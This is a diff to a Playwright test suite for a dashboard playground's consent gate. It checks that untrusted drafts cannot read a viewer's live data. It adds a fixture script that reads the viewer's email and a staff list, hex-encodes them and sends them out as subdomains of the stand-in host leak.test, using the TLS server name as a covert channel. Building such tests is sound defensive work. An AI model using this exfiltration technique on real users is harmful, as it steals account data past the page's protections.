@@ -2,7 +2,8 @@ import { expect, test, type Browser, type Page } from "@playwright/test";
 import { expectNoSeriousViolations } from "./support/axe";
 import { Canaries } from "./support/canary";
 import { ConsentGatePage } from "./support/consent";
-import { describeCounts, LoopbackListeners, reached, type ListenerTarget } from "./support/listeners";
+import { PlaygroundEditorPage } from "./support/editor-page";
+import { describeCounts, heard, LoopbackListeners, reached, type ListenerTarget } from "./support/listeners";
 import { SignInPage } from "./support/pages";
 import { SavedDashboardPage } from "./support/saved-page";
 import { DraftAuthor, WatchPage } from "./support/watch-page";
@@ -78,7 +79,38 @@ function hostile(label: string): string {
 </script>`;
 }
 
-const armed = (html: string) => html.replaceAll("${UDP}", String(target.udpPort)).replaceAll("${TCP}", String(target.tcpPort));
+const armed = (html: string) =>
+  html.replaceAll("${UDP}", String(target.udpPort)).replaceAll("${TCP}", String(target.tcpPort)).replaceAll("${TLS}", String(target.tlsPort));
+
+/**
+ * Reads the viewer's email and the admin-only staff list through a computed path, then sends the
+ * email and the list's size out as the TLS server name of a navigation of the frame itself: the
+ * channel no frame can close (docs/architecture.md, residual risks). Whatever data it was given
+ * leaves; the question is whose. (Not the list itself: the demo's staff list names the demo
+ * people, admin@demo.test among them, while the demo's /me never is the admin.)
+ */
+function exfiltrating(label: string): string {
+  return `<!doctype html><title>${label}</title><p id="got">waiting</p>
+<script>
+(async () => {
+  const API = window.DASHBOARD_API_BASE || "/api";
+  const me = await fetch(API + "/me").then((r) => (r.ok ? r.json() : { email: "status-" + r.status }));
+  const instance = ["us", "ers"].join("");
+  const staff = await fetch(API + "/crm/" + instance + "/contacts");
+  const secret = me.email + "|" + staff.status + "|" + (staff.ok ? (await staff.text()).length : 0);
+  document.getElementById("got").textContent = me.email;
+  const hex = Array.from(new TextEncoder().encode(secret)).map((b) => b.toString(16).padStart(2, "0")).join("");
+  location.href = "https://" + hex.match(/.{1,60}/g).join(".") + ".leak.test:\${TLS}/";
+})();
+</script>`;
+}
+
+/** Waits until a TLS server name reached the listeners, and answers everything heard, decoded. */
+async function leaked(): Promise<string> {
+  await expect.poll(() => listeners.counts("consent").sni.length, { timeout: 15_000 }).toBeGreaterThan(0);
+  await canaries.send([target], { udp: true });
+  return heard(listeners.counts("consent")).join("\n");
+}
 
 async function signIn(page: Page, email: string, next: string): Promise<void> {
   await new SignInPage(page).open(next);
@@ -240,4 +272,99 @@ test("the viewer's own saved dashboard, and any demo draft, run without asking",
   await watch.open(draft.watchUrl);
   await expect(watch.dashboard().locator("#x")).toHaveText("demo");
   await expect(new ConsentGatePage(page).gate()).toHaveCount(0);
+});
+
+test("a stranger's live draft opened at its editor address runs on nothing of the viewer's: no click, no data", async ({ page, request }) => {
+  const draft = await new DraftAuthor(request).create(armed(exfiltrating("Staff")), { dataMode: "live" });
+  const api = apiRequests(page);
+  await signIn(page, "admin@demo.test", `/dashboards/playground/d/${draft.id}`);
+  const editor = new PlaygroundEditorPage(page);
+  const consent = new ConsentGatePage(page);
+
+  // The draft is on live data, so the preview asks; it never starts on the admin's data by itself.
+  await expect(consent.gate()).toBeVisible();
+  await expect(consent.gate()).toContainText("a playground draft");
+  await expect(consent.paths()).toHaveText([/^\/crm\/\{any instance\}\/contacts/, /^\/me/]);
+  await expect(page.locator('iframe[title="Dashboard preview"]')).toHaveCount(0);
+  await expectSilence();
+  expect(api).toEqual([]);
+
+  // Demo data instead: the code runs, and what it sends out is the demo's, not the admin's.
+  await consent.showWithDemoData();
+  await expect(editor.dataMode()).toHaveValue("demo");
+  const out = await leaked();
+  expect(out).toContain("csm@demo.test");
+  expect(out).not.toContain("admin@demo.test");
+  expect(api).toEqual([]);
+});
+
+test("“Open in playground” on someone else's saved dashboard opens it on demo data, before or without consent", { tag: "@csm-state" }, async ({ page, browser, baseURL }) => {
+  test.setTimeout(60_000);
+  const slug = `leak-${Date.now().toString(36)}`;
+  const path = await savedByCsm(browser, baseURL!, armed(exfiltrating("Staff board")), slug);
+  const api = apiRequests(page);
+  await signIn(page, "admin@demo.test", path);
+  const consent = new ConsentGatePage(page);
+  await expect(consent.gate()).toBeVisible();
+  // One click, the gate still showing.
+  await new SavedDashboardPage(page).action("Open in playground").click();
+  await expect(page).toHaveURL(/\/dashboards\/playground$/);
+  const editor = new PlaygroundEditorPage(page);
+  await expect(editor.status()).toContainText("on demo data");
+  await expect(editor.dataMode()).toHaveValue("demo");
+  const out = await leaked();
+  expect(out).toContain("csm@demo.test");
+  expect(out).not.toContain("admin@demo.test");
+  expect(api).toEqual([]);
+
+  // Choosing live data asks, naming whose code it is, and reads nothing meanwhile.
+  await editor.dataMode().selectOption("live");
+  await expect(consent.gate()).toContainText(`/~/csm/${slug}, not yours`);
+  await expect(consent.paths()).toHaveText([/^\/crm\/\{any instance\}\/contacts/, /^\/me/]);
+  await expect(page.locator('iframe[title="Dashboard preview"]')).toHaveCount(0);
+  expect(api).toEqual([]);
+});
+
+test("the editor's live mode: entered by the viewer's click, shows the paths, serves only them, asks again for new ones", async ({ page }) => {
+  const api = apiRequests(page);
+  await signIn(page, "csm@demo.test", "/dashboards/playground");
+  const editor = new PlaygroundEditorPage(page);
+  const consent = new ConsentGatePage(page);
+  await editor.replaceWith(
+    `<!doctype html><title>Mine</title><p id="me">waiting</p><p id="owners">waiting</p><script>
+const API = window.DASHBOARD_API_BASE;
+fetch(API + "/me").then((r) => r.json()).then((m) => { document.getElementById("me").textContent = m.email; });
+</script>`,
+  );
+  await expect(editor.preview().locator("#me")).toHaveText("csm@demo.test");
+  expect(api).toEqual([]);
+
+  await editor.dataMode().selectOption("live");
+  await expect(consent.gate()).toContainText("the code in this editor");
+  await expect(consent.paths()).toHaveText([/^\/me/]);
+  await expect(page.locator('iframe[title="Dashboard preview"]')).toHaveCount(0);
+  expect(api).toEqual([]);
+  await consent.runWithMyData();
+  await expect(editor.preview().locator("#me")).toHaveText("csm@demo.test");
+  expect(api).toEqual(["/api/me"]);
+
+  // A new path typed in: shown beside the running preview, refused until allowed.
+  await editor.append(`<script>fetch(window.DASHBOARD_API_BASE + "/cx/owners").then((r) => { document.getElementById("owners").textContent = String(r.status); });</script>`);
+  await expect(consent.gate()).toContainText("The code now reads more of your data");
+  await expect(consent.paths()).toHaveText([/^\/cx\/owners/]);
+  await expect(editor.preview().locator("#owners")).toHaveText("403");
+  expect(api).not.toContain("/api/cx/owners");
+  // Typing goes on where it was: the question does not take the caret.
+  await expect(editor.source()).toBeFocused();
+  await consent.choice("Allow these reads").click();
+  await expect(editor.preview().locator("#owners")).toHaveText("200");
+  await expect(consent.gate()).toHaveCount(0);
+  expect(api).toContain("/api/cx/owners");
+
+  // Back to demo data and live again: the question comes back.
+  await editor.dataMode().selectOption("demo");
+  await editor.dataMode().selectOption("live");
+  await expect(consent.gate()).toBeVisible();
+  await consent.showWithDemoData();
+  await expect(editor.dataMode()).toHaveValue("demo");
 });
